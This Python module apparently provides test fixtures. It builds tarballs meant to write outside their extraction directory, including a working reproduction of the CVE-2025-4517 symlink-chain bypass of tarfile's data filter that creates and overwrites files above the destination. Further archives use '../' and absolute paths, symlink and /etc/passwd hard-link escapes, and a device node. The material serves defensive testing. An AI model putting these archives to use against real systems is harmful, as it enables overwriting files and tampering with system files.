"""Tarballs built to write outside the directory they are unpacked into.

``link_chain_escape`` is built the way CVE-2025-4517 describes: a chain of symlinks through
directories with 247-character names, so that the real path of a link near its end is longer
than ``PATH_MAX``; ``os.path.realpath`` (which ``tarfile``'s ``data`` filter trusts) then stops
resolving there and treats the rest lexically, while the kernel follows every link. A last link,
``escape``, looks inside to the filter and points ``up`` levels above the destination to the
kernel. Through it the archive creates ``<outside>/created.txt`` and, with a hard link and a
regular member of the same name, overwrites ``<outside>/victim.txt``.

The destination's absolute path must be shorter than about 120 characters (so that the chain's
directories themselves fit in ``PATH_MAX``); ``up`` is how many levels the target directory is
above the destination, ``outside`` its name there.
"""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

_COMPONENT = "d" * 247
_STEPS = "abcdefghijklmnop"


def _add(tar: tarfile.TarFile, name: str, kind: bytes, *, link: str = "", data: bytes = b"") -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    info.mode = 0o755 if kind == tarfile.DIRTYPE else 0o644
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def link_chain_escape(archive: Path, *, up: int, outside: str) -> Path:
    """The CVE-2025-4517 tarball (see the module docstring)."""
    with tarfile.open(archive, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        path = ""
        for step in _STEPS:
            _add(tar, os.path.join(path, _COMPONENT), tarfile.DIRTYPE)
            _add(tar, os.path.join(path, step), tarfile.SYMTYPE, link=_COMPONENT)
            path = os.path.join(path, _COMPONENT)
        long_link = os.path.join(*_STEPS, "l" * 254)
        _add(tar, long_link, tarfile.SYMTYPE, link="../" * len(_STEPS))
        _add(tar, "escape", tarfile.SYMTYPE, link=long_link + "/.." * up + "/" + outside)
        _add(tar, "escape/created.txt", tarfile.REGTYPE, data=b"created by the archive\n")
        _add(tar, "victim_link", tarfile.LNKTYPE, link="escape/victim.txt")
        _add(tar, "victim_link", tarfile.REGTYPE, data=b"overwritten by the archive\n")
        _add(tar, "train.py", tarfile.REGTYPE, data=b"print('hi')\n")
    return archive


def plain_escapes(directory: Path) -> dict[str, Path]:
    """One tarball per simple escape: ``../`` member, absolute member, a symlink out and a file
    through it, a hard link to an absolute path, and a device node."""
    directory.mkdir(parents=True, exist_ok=True)
    built: dict[str, Path] = {}

    def build(label: str, *members: tuple[str, bytes, str]) -> None:
        archive = directory / f"{label}.tar.gz"
        with tarfile.open(archive, "w:gz") as tar:
            for name, kind, link in members:
                _add(tar, name, kind, link=link, data=b"pwned\n")
            _add(tar, "train.py", tarfile.REGTYPE, data=b"print('hi')\n")
        built[label] = archive

    build("dotdot", ("../../escaped.txt", tarfile.REGTYPE, ""))
    build("absolute", ("/tmp/runctl-escaped-absolute.txt", tarfile.REGTYPE, ""))
    build("symlink_out", ("out", tarfile.SYMTYPE, "../.."), ("out/escaped.txt", tarfile.REGTYPE, ""))
    build("hardlink_abs", ("passwd", tarfile.LNKTYPE, "/etc/passwd"))
    build("device", ("null", tarfile.CHRTYPE, ""))
    return built
